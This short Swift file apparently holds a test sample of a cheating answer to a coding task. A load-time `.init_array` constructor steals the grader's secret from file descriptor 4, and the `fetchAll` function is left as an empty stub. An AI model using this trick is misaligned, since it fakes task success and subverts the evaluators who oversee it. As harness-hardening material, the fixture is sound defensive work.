import Glibc

// An answer that tries to run before the harness: a constructor that reads the grader's
// secret from descriptor 4 before the harness does.
nonisolated(unsafe) var stolen: [UInt8] = []

@section(".init_array") @used let steal: @convention(c) () -> Void = {
    var buffer = [UInt8](repeating: 0, count: 256)
    let count = read(4, &buffer, buffer.count)
    if count > 0 { stolen = Array(buffer[0..<count]) }
}

func fetchAll(
    _ urls: [String],
    fetch: @escaping @Sendable (String) async throws -> String
) async throws -> [String] {
    []
}
